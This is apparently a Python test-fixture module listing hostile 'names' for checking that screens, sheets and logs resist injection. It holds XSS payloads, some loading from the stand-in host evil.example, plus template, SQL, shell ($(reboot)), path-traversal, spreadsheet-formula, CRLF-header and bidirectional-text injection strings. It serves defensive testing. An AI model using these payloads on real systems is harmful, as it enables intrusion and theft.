"""Names that somebody might type to break a screen, a sheet or a log (TRUST A1, A2, A4), for every input there is.

Whatever runs sets `window.pwned`; a browser test looks whether that was touched.
"""

SCRIPTS = (
    "<script>window.pwned=1</script>",
    "<SCRIPT>window.pwned=1</SCRIPT >",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<script src=/static/live.js onload=pwned=1></script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</template><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "<script\x0c>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror=window.pwned=1>",
    "<img src=x onerror=window.pwned=1 //",
    "<img/src/onerror=window.pwned=1>",
    "<img src=x:x onerror=&#119;indow.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x>",
    "<svg><style><img src=x onerror=window.pwned=1>",
    "<math><mtext><script>window.pwned=1</script>",
    "<math href=javascript:window.pwned=1>x</math>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<a href=javascript:window.pwned=1>tap</a>",
    "<form action=javascript:window.pwned=1><button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<!--<img src=x onerror=window.pwned=1>-->",
    "<?xml-stylesheet href='javascript:pwned=1'?>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "＜script＞window.pwned=1＜/script＞",
)
ATTRIBUTES = (
    '" onfocus=window.pwned=1 autofocus x="',
    "' onmouseover=window.pwned=1 x='",
    "x onclick=window.pwned=1",
    '"/><b id="screen">',
    '" data-key="staff/main/en',
    '";window.pwned=1;//',
    "';window.pwned=1;//",
    "`;window.pwned=1;//",
    "${window.pwned=1}",
    "</td></tr></table><h1>Ana",
    "</bdi></li></ol><li>",
    "</main></body></html>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}",
    "{% include 'problem.html' %}",
    "{# Ana #}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%(name)s %s %d %n",
    "{0.__class__} {ticket}",
)
LANGUAGES = (
    "'; drop table person; --",
    '" or "1"="1',
    "$(reboot)",
    "`reboot`",
    "../../etc/passwd",
    "Ana|Diaz;Ana&Diaz",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","Ana")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    "＝1+1",
)
TURNED = (
    "\u202eevil\u202c Ana",
    "\u202aAna\u202c",
    "\u202bAna",
    "\u202dAna",
    "\u2066Ana\u2069",
    "\u2067Ana",
    "\u2068\u2068\u2068Ana",
    "\u200fAna\u200e",
    "\u061cAna",
)
CONTROL = (
    "Ana\x00Diaz",
    "Ana%00Diaz",
    "Ana\x1b[31mDiaz\x1b]0;x\x07",
    "Ana\x7f\x80\x9bDiaz",
    "Ana\r\nSet-Cookie: a=b",
    "Ana\r\n\r\n<script>window.pwned=1</script>",
    "Ana%0d%0aLocation: //evil.example",
    "Ana\u2028window.pwned=1\u2029Diaz",
    "Ana\x85Diaz\x0bDiaz",
    "ERROR kindline: the database is gone\nINFO Ana",
    "Ana\ufeff\u2060Diaz",
)
SCRIPTS_OF_THE_WORLD = (
    "عائشة بنت أحمد",
    "אבי כהן",
    "می\u200cخواهم",
    "👩\u200d⚕️ Ana",
    "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈",
    "\U0001f1fa\U0001f1f3",
    "Z\u0351\u036b\u0343a\u0334\u0319l\u035dg\u0489o",
    "\u1112\u1161\u11ab",
    "ﷺ ﷽",
    "A" * 80,
    "W" * 40 + " " + "M" * 39,
    "﷽" * 80,
    "null",
    "undefined",
    "[object Object]",
    "__proto__",
    "NaN",
)

NAMES = (
    *SCRIPTS, *ATTRIBUTES, *TEMPLATES, *LANGUAGES, *FORMULAS, *TURNED, *CONTROL, *SCRIPTS_OF_THE_WORLD,
)  # fmt: skip

FORBIDDEN = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x7f") | {
    *map(chr, range(0x20)), *map(chr, range(0x80, 0xA0)),
}  # fmt: skip
"""What may be in no text that was typed: control characters, and what turns the text around it (TRUST A2)."""


def fitting(length: int) -> tuple[str, ...]:
    """The names that a field of this length takes."""
    return tuple(name for name in NAMES if len(name) <= length)
